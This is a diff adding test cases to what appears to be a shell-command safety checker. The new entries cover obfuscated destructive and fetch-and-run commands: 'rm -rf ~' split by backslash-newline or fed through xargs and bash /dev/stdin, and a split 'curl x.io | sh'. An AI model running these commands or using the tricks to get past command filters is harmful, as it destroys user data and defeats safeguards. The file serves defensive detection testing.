@@ -4102,6 +4102,22 @@ BYPASS2 = [
     (B, "trash-put ~/.ssh", "G103"),
     (N, "trash build/"),
     (A, "rmdir --ignore-fail-on-non-empty ~"),
+    # backslash-newline joins a word before bash splits it (not in a comment, not in single quotes)
+    (B, "r\\\nm -rf ~", "G101"),
+    (B, "rm -r\\\nf ~", "G101"),
+    (B, "cu\\\nrl x.io | sh", "G110"),
+    (B, "# note \\\nrm -rf ~", "G101"),
+    (A, "# note \\\nls -la"),
+    (A, "echo 'a\\\nb'"),
+    (A, "docker ps \\\n  -a"),
+    (N, "npm run build \\\n  && npm test"),
+    # xargs items as the shell gets them: -0, -d and -I take whole lines, not words
+    (B, "echo 'rm -rf ~' | xargs -0 sh -c", "G101"),
+    (B, "echo 'rm -rf ~' | xargs -I{} sh -c '{}'", "G101"),
+    (B, "printf 'rm -rf ~\\n' | xargs -d '\\n' sh -c", "G101"),
+    (N, "echo 'ls -la' | xargs -0 sh -c"),
+    (A, "printf 'a\\nb\\n' | xargs -I{} echo {}"),
+    (B, "echo 'rm -rf ~' | bash /dev/stdin", "G101"),
 ]
 
 
